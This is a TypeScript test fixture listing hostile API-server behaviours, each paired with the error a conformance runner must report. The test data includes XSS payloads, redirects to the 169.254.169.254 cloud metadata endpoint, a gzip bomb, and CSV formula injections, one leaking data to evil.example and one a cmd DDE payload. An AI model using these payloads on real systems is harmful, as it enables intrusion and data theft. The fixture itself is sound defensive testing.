import { gzipSync } from 'node:zlib';
import type { RunConfig, RunReport } from '../../src/index.ts';
import type { HostileCheckId } from './checks.ts';
import {
  EXPORT_FILES,
  type ExportFile,
  type Handler,
  type HostileSupplier,
  ITEMS,
  json,
  manifestOf,
  type Routes,
} from './server.ts';

/**
 * The catalogue of hostile supplier behaviours, one entry each, selectable by name. Each says what the
 * server does (for docs/security.md), which check (or pre-flight) meets it, and the outcome the runner must
 * reach: its status and a message naming what went wrong in words a person can act on.
 */
export interface Pathology {
  /** Kebab-case, unique: how a test selects it. */
  readonly name: string;
  /** What the hostile server does, in a sentence. */
  readonly does: string;
  /** The check that meets it, or pre-flight when the run cannot start. */
  readonly affects: HostileCheckId | 'preflight';
  readonly expect: {
    readonly status: 'fail' | 'error';
    readonly message: RegExp;
    /** A message this must not be: what a weaker runner or check would have said. */
    readonly not?: RegExp;
  };
  /** Other checks it rightly fails too (every other check must pass). */
  readonly alsoFails?: readonly HostileCheckId[];
  /** Checks it leaves no time for: each must be `error`, not run because the run's budget was spent. */
  readonly notRun?: readonly HostileCheckId[];
  readonly routes?: (supplier: HostileSupplier) => Routes;
  /** Served over TLS with this certificate (the run trusts the test CA). */
  readonly tls?: 'expired' | 'selfSigned' | 'wrongHost';
  readonly config?: Partial<RunConfig>;
  /** Peak memory must stay bounded while the run meets it. */
  readonly memory?: boolean;
  /** What else must hold afterwards; returns why not, or undefined. */
  readonly invariant?: (supplier: HostileSupplier, report: RunReport) => string | undefined;
}

const MiB = 1024 * 1024;

/** A JSON answer that never ends: 64 KiB a millisecond until the client goes. */
const endless =
  (contentType: string): Handler =>
  (_q, res) => {
    res.writeHead(200, { 'content-type': contentType });
    const chunk = `${'x'.repeat(64 * 1024 - 1)}\n`;
    const timer = setInterval(() => {
      if (!res.destroyed) res.write(chunk);
    }, 1);
    res.on('close', () => clearInterval(timer));
  };

let bomb: Buffer | undefined;
/** 1 GiB of zeros in about 1 MiB: 64 gzip members of 16 MiB each (gzip allows members end to end). */
function gzipBomb(): Buffer {
  bomb ??= Buffer.concat(Array(64).fill(gzipSync(Buffer.alloc(16 * MiB), { level: 9 })));
  return bomb;
}

const redirect =
  (location: (url: URL, supplier: HostileSupplier) => string): Handler =>
  (_q, res, { url, supplier }) => {
    res.writeHead(302, { location: location(url, supplier) });
    res.end();
  };

const tooMany =
  (retryAfter: string): Handler =>
  (_q, res) =>
    json(res, 429, { title: 'Too Many Requests', status: 429 }, { 'retry-after': retryAfter });

/** A page of the items list at `cursor`, with `next` as given. */
const page = (res: Parameters<Handler>[1], items: readonly object[], next: string | null) =>
  json(res, 200, { items, next });

const METADATA = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';

const withFiles = (files: readonly ExportFile[], manifest = manifestOf(files)): Handler => {
  return (_q, res) => json(res, 200, { id: 'job-1', status: 'complete', manifest });
};

const FORMULA_CSV: ExportFile = {
  name: 'items.csv',
  format: 'csv',
  mediaType: 'text/csv',
  records: 3,
  bytes: Buffer.from(
    [
      'id,name,supplier',
      '1,"Garden waste\ncollection","Acme ""Waste"" Ltd"',
      '2,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Acme Waste Ltd',
      '3,"+cmd|\' /C calc\'!A0","@SUM(1+1)"',
      '',
    ].join('\r\n'),
  ),
};

const hostsOf = (report: RunReport) => report.exchanges.map((e) => new URL(e.request.url).host);

export const PATHOLOGIES: readonly Pathology[] = [
  // The body: size, encoding, pace, shape.
  {
    name: 'endless-body',
    does: 'Answers GET /items/1 with a JSON body that never ends (64 KiB a millisecond, no Content-Length).',
    affects: 'hostile-record',
    expect: { status: 'error', message: /GET \/items\/1: the response passed the 1048576-byte cap/ },
    routes: () => ({ '/items/1': endless('application/json') }),
    memory: true,
  },
  {
    name: 'content-length-10-gb',
    does: 'Declares Content-Length: 10737418240 (10 GiB) for GET /items/1, sends one byte and holds the line.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message:
        /declares 10737418240 bytes \(Content-Length\), over the 1048576-byte cap; nothing of it was read/,
    },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(10 * 1024 * MiB) });
        res.write('[');
      },
    }),
    memory: true,
  },
  {
    name: 'gzip-bomb',
    does: 'Sends GET /items/1 unasked as Content-Encoding: gzip: about 1 MiB that inflates to 1 GiB of zeros.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message:
        /passed the 1048576-byte cap once its gzip encoding was undone, from \d+ bytes on the wire \(a compression bomb/,
    },
    routes: () => {
      // Made before the run, not in its request: compressing 16 MiB takes seconds on a loaded machine, past
      // the run's 1 s request timeout, and what is under test is the body, not the wait for it.
      const bomb = gzipBomb();
      return {
        '/items/1': (_q, res) => {
          res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
          res.end(bomb);
        },
      };
    },
    memory: true,
  },
  {
    name: 'slowloris',
    does: 'Answers GET /items/1 one byte every 200 ms (64 bytes declared), against a 1 s request timeout.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message:
        /no complete answer within 1000 ms; \d+ of 64 bytes of the body had arrived \(the body trickles in\)/,
    },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': '64' });
        res.write('{');
        const timer = setInterval(() => {
          if (!res.destroyed) res.write(' ');
        }, 200);
        res.on('close', () => clearInterval(timer));
      },
    }),
  },
  {
    name: 'never-answers',
    does: 'Accepts GET /items/1 and never sends a byte back.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message: /no complete answer within 1000 ms; not even the headers had arrived/,
    },
    routes: () => ({ '/items/1': () => undefined }),
  },
  {
    name: 'drops-connection-mid-body',
    does: 'Declares 2048 bytes for GET /items/1, sends 512, then drops the connection.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message: /the connection broke after 512 of the 2048 declared bytes of the body/,
    },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': '2048' });
        res.write(`{"id":"1","name":"${'x'.repeat(512 - 18)}`);
        setTimeout(() => res.socket?.destroy(), 50);
      },
    }),
  },
  {
    name: 'headers-of-1-mb',
    does: 'Answers GET /items/1 with a single 1 MiB response header.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message: /the response headers are larger than the \d+-byte limit the runner reads/,
    },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json', 'x-padding': 'a'.repeat(MiB) });
        res.end(JSON.stringify(ITEMS[0]));
      },
    }),
    memory: true,
  },
  {
    name: 'invalid-json',
    does: 'Answers GET /items/1 as application/json with a body cut off mid-string.',
    affects: 'hostile-record',
    expect: { status: 'fail', message: /the body \(application\/json\) is not JSON/ },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end('{"id": "1", "name": "Garden waste');
      },
    }),
  },
  {
    name: 'json-nested-100000-deep',
    does: 'Answers GET /items/1 with a field nested 100,000 arrays deep (valid JSON, 200 KB).',
    affects: 'hostile-record',
    expect: { status: 'fail', message: /the JSON nests deeper than 512 levels/ },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(`{"id":"1","name":"Deep","tags":${'['.repeat(100_000)}${']'.repeat(100_000)}}`);
      },
    }),
  },
  {
    name: 'invalid-utf-8',
    does: 'Answers GET /items/1 with Windows-1252 bytes (0xE9 for é) in a body labelled UTF-8 JSON.',
    affects: 'hostile-record',
    expect: { status: 'fail', message: /byte 0xe9 at offset 21 is not valid UTF-8/ },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'application/json; charset=utf-8' });
        res.end(
          Buffer.concat([Buffer.from('{"id":"1","name":"Caf'), Buffer.from([0xe9]), Buffer.from(' menu"}')]),
        );
      },
    }),
  },
  {
    name: 'html-login-page',
    does: 'Answers GET /items/1 200 with an HTML sign-in page instead of JSON (a single sign-on proxy).',
    affects: 'hostile-record',
    expect: { status: 'fail', message: /the body \(text\/html; charset=utf-8\) is not JSON/ },
    routes: () => ({
      '/items/1': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end('<!doctype html><html><head><title>Sign in</title></head><body><form></form></body></html>');
      },
    }),
  },
  {
    name: 'script-in-names',
    does: 'Serves item 1 with <script>alert(1)</script> as its name and an <img onerror> as its supplier.',
    affects: 'hostile-record',
    expect: {
      status: 'fail',
      message: /HTML markup in name \("<script>alert\(1\)<\/script>"\) and supplier/,
    },
    routes: () => ({
      '/items/1': (_q, res) =>
        json(res, 200, {
          id: '1',
          name: '<script>alert(1)</script>',
          supplier: '<img src=x onerror=alert(document.cookie)>',
        }),
    }),
  },

  // Redirects.
  {
    name: 'redirect-loop',
    does: 'Redirects GET /items/1 to /items/1?hop=N+1, for ever.',
    affects: 'hostile-record',
    expect: {
      status: 'fail',
      message:
        /redirecting to \/items\/1\?hop=6 after every redirect the runner follows: the redirects do not end/,
    },
    routes: () => ({
      '/items/1': redirect((url) => `/items/1?hop=${Number(url.searchParams.get('hop') ?? 0) + 1}`),
    }),
    invariant: (supplier) =>
      supplier.hits.get('/items/1') === 6
        ? undefined
        : `${supplier.hits.get('/items/1')} hops were made, not 6`,
  },
  {
    name: 'redirect-to-another-origin',
    does: 'Redirects the authenticated GET /items/1 to a server on another origin.',
    affects: 'hostile-record',
    expect: {
      status: 'fail',
      message: /another origin, http:\/\/127\.0\.0\.1:\d+: not followed, and no credentials went there/,
    },
    routes: () => ({ '/items/1': redirect((_url, supplier) => `${supplier.elsewhere.origin}/landing`) }),
    invariant: (supplier) => (supplier.elsewhere.hits.size === 0 ? undefined : 'the other origin was called'),
  },
  {
    name: 'redirect-to-link-local-metadata',
    does: `Redirects the authenticated GET /items/1 to the cloud metadata address ${METADATA}.`,
    affects: 'hostile-record',
    expect: {
      status: 'fail',
      message:
        /redirecting to http:\/\/169\.254\.169\.254, a link-local address \(a cloud metadata service\): not followed/,
    },
    routes: () => ({ '/items/1': redirect(() => METADATA) }),
    invariant: (_s, report) =>
      hostsOf(report).includes('169.254.169.254') ? 'a request went to 169.254.169.254' : undefined,
  },
  {
    name: 'next-link-to-link-local-metadata',
    does: `Gives the items list a next link to ${METADATA}.`,
    affects: 'hostile-crawl',
    expect: {
      status: 'fail',
      message:
        /refusing to call http:\/\/169\.254\.169\.254: only the target http:\/\/127\.0\.0\.1:\d+ is called/,
    },
    routes: () => ({ '/items': (_q, res) => page(res, ITEMS.slice(0, 2), METADATA) }),
    invariant: (_s, report) =>
      hostsOf(report).includes('169.254.169.254') ? 'a request went to 169.254.169.254' : undefined,
  },

  // Pagination.
  {
    name: 'pagination-never-ends',
    does: 'Lists 100 fresh items on every page of /items, each with a fresh next link.',
    affects: 'hostile-crawl',
    expect: { status: 'fail', message: /after 50 page\(s\): stopped after 5000 records \(the crawl cap\)/ },
    routes: () => ({
      '/items': (_q, res, { url }) => {
        const n = Number(url.searchParams.get('cursor') ?? 0);
        const items = Array.from({ length: 100 }, (_, i) => ({ id: `${n}-${i}`, name: `Item ${n}-${i}` }));
        page(res, items, `/items?limit=100&cursor=${n + 1}`);
      },
    }),
    memory: true,
  },
  {
    name: 'empty-pages-forever',
    does: 'Answers every page of /items with no items and a fresh next link.',
    affects: 'hostile-crawl',
    expect: {
      status: 'fail',
      message: /pagination does not end: 20 pages in a row held no records yet each linked to another/,
    },
    routes: () => ({
      '/items': (_q, res, { url }) =>
        page(res, [], `/items?limit=100&cursor=${Number(url.searchParams.get('cursor') ?? 0) + 1}`),
    }),
  },
  {
    name: 'cursor-cycle',
    does: 'Pages /items from cursor b to c and back to b.',
    affects: 'hostile-crawl',
    expect: { status: 'fail', message: /pagination loops: page 4 links back to \/items\?limit=100&cursor=b/ },
    routes: () => ({
      '/items': (_q, res, { url }) => {
        const cursor = url.searchParams.get('cursor');
        if (cursor === 'b') return page(res, ITEMS.slice(2), '/items?limit=100&cursor=c');
        if (cursor === 'c') return page(res, [], '/items?limit=100&cursor=b');
        page(res, ITEMS.slice(0, 2), '/items?limit=100&cursor=b');
      },
    }),
  },
  {
    name: 'pages-repeat-records',
    does: 'Answers every page of /items with the same two items under a fresh cursor.',
    affects: 'hostile-crawl',
    expect: { status: 'fail', message: /record 1 came back twice while paging: the pages overlap or loop/ },
    routes: () => ({
      '/items': (_q, res, { url }) =>
        page(
          res,
          ITEMS.slice(0, 2),
          `/items?limit=100&cursor=${Number(url.searchParams.get('cursor') ?? 0) + 1}`,
        ),
    }),
  },

  // Rate limits and server errors.
  {
    name: '429-forever',
    does: 'Answers GET /items/1 429 Too Many Requests with Retry-After: 0, every time.',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message: /429 Too Many Requests every time, after the retries the runner makes/,
    },
    routes: () => ({ '/items/1': tooMany('0') }),
    invariant: (supplier) =>
      supplier.hits.get('/items/1') === 4
        ? undefined
        : `${supplier.hits.get('/items/1')} tries, not 1 + 3 retries`,
  },
  {
    name: 'retry-after-a-year',
    does: 'Answers GET /items/1 429 with Retry-After: 31536000 (a year).',
    affects: 'hostile-record',
    expect: {
      status: 'error',
      message: /asking to wait 31536000 s, longer than the 2000 ms the run waits/,
    },
    routes: () => ({ '/items/1': tooMany(String(365 * 24 * 3600)) }),
    invariant: (supplier) =>
      supplier.hits.get('/items/1') === 1 ? undefined : 'the runner retried a wait it should not wait',
  },
  {
    name: 'bursts-of-5xx',
    does: 'Answers the second page of /items 503, 502 and 500 in turn.',
    affects: 'hostile-crawl',
    expect: { status: 'fail', message: /after 2 page\(s\): \/items answered 503/ },
    routes: () => {
      let failures = 0;
      return {
        '/items': (_q, res, { url }) => {
          if (url.searchParams.get('cursor') !== 'page-2')
            return page(res, ITEMS.slice(0, 2), '/items?limit=100&cursor=page-2');
          json(res, [503, 502, 500][failures++ % 3] as number, { title: 'Server Error' });
        },
      };
    },
  },
  {
    name: 'slow-pages-until-the-budget',
    does: 'Answers each page of /items after 400 ms with one fresh item and a next link, for ever.',
    affects: 'hostile-crawl',
    expect: { status: 'error', message: /the run’s time budget ran out during this request/ },
    notRun: ['hostile-whoami', 'hostile-export'],
    config: { runBudgetMs: 2_000 },
    routes: () => ({
      '/items': (_q, res, { url }) => {
        const n = Number(url.searchParams.get('cursor') ?? 0);
        const timer = setTimeout(
          () => page(res, [{ id: `slow-${n}`, name: 'Slow' }], `/items?limit=100&cursor=${n + 1}`),
          400,
        );
        res.on('close', () => clearTimeout(timer));
      },
    }),
  },

  // Tokens.
  {
    name: 'token-endpoint-answers-html',
    does: 'Answers the client-credentials request 200 with an HTML login page.',
    affects: 'preflight',
    expect: {
      status: 'error',
      message:
        /credentials: .*answered 200 with text\/html, not a JSON token response \(a login page\? check that tokenUrl/,
    },
    routes: () => ({
      '/oauth/token': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<html><body><h1>Sign in</h1><form method="post"></form></body></html>');
      },
    }),
  },
  {
    name: 'token-endpoint-endless-body',
    does: 'Answers the client-credentials request 200 with a JSON body that never ends.',
    affects: 'preflight',
    expect: { status: 'error', message: /sent more than 65536 bytes; a token response is a few hundred/ },
    routes: () => ({ '/oauth/token': endless('application/json') }),
    memory: true,
  },
  {
    name: 'token-endpoint-busy',
    does: 'Answers every client-credentials request 429 with Retry-After: 9.',
    affects: 'preflight',
    expect: {
      status: 'error',
      message: /is busy \(HTTP 429\) and asks to wait 9 s, longer than the 2000 ms the run waits/,
    },
    routes: () => ({ '/oauth/token': tooMany('9') }),
  },
  {
    name: 'token-expired-at-issue',
    does: 'Issues tokens with expires_in: 0, and the API refuses each of them 401 invalid_token.',
    affects: 'hostile-record',
    expect: { status: 'fail', message: /401 even with a token fresh from the token endpoint/ },
    alsoFails: ['hostile-crawl', 'hostile-whoami', 'hostile-export'],
    routes: (supplier) => {
      const expired: Handler = (_q, res) =>
        json(
          res,
          401,
          { title: 'Unauthorized', status: 401 },
          {
            'www-authenticate': 'Bearer error="invalid_token", error_description="The access token expired"',
          },
        );
      return {
        '/oauth/token': (_q, res) => {
          const token = `expired-token-${supplier.issued.length + 1}-0123456789`;
          supplier.issued.push(token);
          json(res, 200, { access_token: token, token_type: 'Bearer', expires_in: 0 });
        },
        '/items': expired,
        '/items/1': expired,
        '/whoami': expired,
        '/exports': expired,
      };
    },
    // One token at pre-flight, then one fresh try for each refused request: never a loop.
    invariant: (supplier) =>
      supplier.issued.length <= 5 ? undefined : `${supplier.issued.length} tokens were fetched`,
  },
  {
    name: 'echoes-credentials',
    does: 'Echoes the Authorization header in the body and a header of GET /whoami, and sets a session cookie it echoes too.',
    affects: 'hostile-whoami',
    expect: {
      status: 'fail',
      message: /echoes the Authorization header back in its body and header x-debug-authorization/,
    },
    routes: () => ({
      '/whoami': (request, res) => {
        const session = 'session-9f8e7d6c5b4a39281706';
        json(
          res,
          200,
          { tenant: 'a', authorization: request.headers.authorization, session },
          {
            'x-debug-authorization': request.headers.authorization ?? '',
            'set-cookie': `sid=${session}; Path=/; HttpOnly`,
            'x-session-echo': session,
          },
        );
      },
    }),
    invariant: (supplier, report) => {
      const text = JSON.stringify(report);
      const leaked = [...supplier.issued, 'session-9f8e7d6c5b4a39281706'].filter((s) => text.includes(s));
      return leaked.length === 0 ? undefined : `the report holds ${leaked.join(', ')}`;
    },
  },

  // TLS.
  {
    name: 'tls-expired-certificate',
    does: 'Serves HTTPS with a certificate from the trusted CA whose validity ended a year ago.',
    affects: 'preflight',
    tls: 'expired',
    expect: {
      status: 'error',
      message: /TLS handshake: .*certificate has expired \(CERT_HAS_EXPIRED\); the supplier must renew it/,
    },
  },
  {
    name: 'tls-self-signed-certificate',
    does: 'Serves HTTPS with a self-signed certificate no trusted authority signed.',
    affects: 'preflight',
    tls: 'selfSigned',
    expect: {
      status: 'error',
      message: /TLS handshake: .*self-signed certificate .*give that CA with --ca-file \(or "tls\.ca"\)/,
    },
  },
  {
    name: 'tls-certificate-for-another-host',
    does: 'Serves HTTPS with a valid certificate from the trusted CA, issued for 127.0.0.2 and api.elsewhere.example.',
    affects: 'preflight',
    tls: 'wrongHost',
    expect: {
      status: 'error',
      message:
        /TLS handshake: .*127\.0\.0\.1 is not in the cert's list.*the certificate does not name this host/,
    },
  },

  // Exports.
  {
    name: 'export-never-completes',
    does: 'Accepts POST /exports and reports the job "running" for ever.',
    affects: 'hostile-export',
    expect: {
      status: 'fail',
      message: /still "running" after \d+ polls when the 800 ms export budget ran out: it never completed/,
    },
    routes: () => ({ '/exports/job-1': (_q, res) => json(res, 200, { id: 'job-1', status: 'running' }) }),
  },
  {
    name: 'manifest-lies',
    does: 'Completes the export with a manifest claiming 5 records, 100 more bytes and another SHA-256 for items.ndjson.',
    affects: 'hostile-export',
    expect: {
      status: 'fail',
      message:
        /items\.ndjson: the manifest says 5 records, the file holds 3; items\.ndjson: the manifest says \d+ bytes, \d+ arrived; items\.ndjson: the manifest's SHA-256 is not the file's/,
    },
    routes: () => {
      const manifest = manifestOf(EXPORT_FILES);
      const [ndjson, ...rest] = manifest.files;
      if (!ndjson) throw new Error('the conformant export has no files');
      return {
        '/exports/job-1': withFiles(EXPORT_FILES, {
          files: [{ ...ndjson, records: 5, bytes: ndjson.bytes + 100, sha256: 'f'.repeat(64) }, ...rest],
        }),
      };
    },
  },
  {
    name: 'csv-formula-injection-and-embedded-newlines',
    does: 'Exports a CSV with a newline inside a quoted name, and cells that begin =HYPERLINK(…), +cmd|… and @SUM(…).',
    affects: 'hostile-export',
    expect: {
      status: 'fail',
      message:
        /items\.csv: 3 cell\(s\) begin with = \+ - or @ and would run as spreadsheet formulas \(row 3 name: "=HYPERLINK/,
      // The embedded newline is one record: a line count would have claimed the manifest lies.
      not: /records/,
    },
    routes: () => {
      const files = [EXPORT_FILES[0] as ExportFile, FORMULA_CSV];
      return {
        '/exports/job-1': withFiles(files),
        '/exports/job-1/items.csv': (_q, res) => {
          res.writeHead(200, { 'content-type': 'text/csv' });
          res.end(FORMULA_CSV.bytes);
        },
      };
    },
  },
  {
    name: 'export-file-never-ends',
    does: 'Serves the export’s items.ndjson as a body that never ends.',
    affects: 'hostile-export',
    expect: {
      status: 'error',
      message: /GET \/exports\/job-1\/items\.ndjson: the download passed the 1048576-byte cap/,
    },
    routes: () => ({ '/exports/job-1/items.ndjson': endless('application/x-ndjson') }),
    memory: true,
  },
  {
    name: 'export-file-on-another-origin',
    does: 'Completes the export with a manifest whose file URL is on another origin.',
    affects: 'hostile-export',
    expect: {
      status: 'error',
      message:
        /refusing to download from http:\/\/127\.0\.0\.1:\d+: only the target http:\/\/127\.0\.0\.1:\d+ is called/,
    },
    routes: (supplier) => {
      const manifest = manifestOf(EXPORT_FILES);
      return {
        '/exports/job-1': withFiles(EXPORT_FILES, {
          files: manifest.files.map((file) => ({ ...file, url: `${supplier.elsewhere.origin}${file.url}` })),
        }),
      };
    },
    invariant: (supplier) => (supplier.elsewhere.hits.size === 0 ? undefined : 'the other origin was called'),
  },
];

export function pathology(name: string): Pathology {
  const found = PATHOLOGIES.find((p) => p.name === name);
  if (!found) throw new Error(`no pathology "${name}"`);
  return found;
}
